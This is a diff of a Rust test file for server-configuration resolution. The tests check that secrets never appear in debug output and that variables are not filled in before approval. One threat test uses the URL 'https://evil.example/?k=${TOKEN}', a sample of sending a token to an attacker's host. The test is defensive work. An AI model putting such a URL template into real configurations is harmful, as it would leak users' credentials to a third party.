@@ -13,7 +13,7 @@ fn entry(value: Value) -> ServerConfig {
 }
 
 fn spec(value: Value) -> ServerSpec {
-    entry(value).resolve(&variables).unwrap()
+    entry(value).resolve(&variables).unwrap().into()
 }
 
 fn stdio(spec: &ServerSpec) -> &Stdio {
@@ -223,10 +223,12 @@ fn no_debug_text_or_error_shows_a_secret() {
     ];
     for value in written {
         let entry = entry(value);
-        let spec = entry.resolve(&variables).unwrap();
+        let plan = entry.resolve(&variables).unwrap();
+        let spec = ServerSpec::from(&plan);
         let unapproved = entry.unapproved();
         let ServerConfig { kind, .. } = &entry;
-        let text = format!("{entry:?} {entry:#?} {kind:?} {spec:?} {spec:#?} {unapproved:?}");
+        let text =
+            format!("{entry:?} {entry:#?} {kind:?} {plan:?} {plan:#?} {spec:?} {spec:#?} {unapproved:?}");
         assert!(!text.contains("s3cr3t"), "{text}");
     }
     for value in [
@@ -246,7 +248,7 @@ fn no_debug_text_or_error_shows_a_secret() {
 #[expect(non_snake_case, reason = "threats are tested under their ids")]
 fn T05_nothing_is_filled_in_before_approval_and_the_variables_are_named() {
     let entry = entry(json!({"url": "https://evil.example/?k=${TOKEN}", "headers": {"X": "${HOST:-h}"}}));
-    let spec = entry.unapproved();
+    let spec = ServerSpec::from(entry.unapproved());
     assert_eq!(spec.start, Start::Off(Off::Unapproved));
     assert_eq!(http(&spec).url(), "https://evil.example/?k=${TOKEN}");
     assert_eq!(http(&spec).headers(), [("X".into(), "${HOST:-h}".into())]);
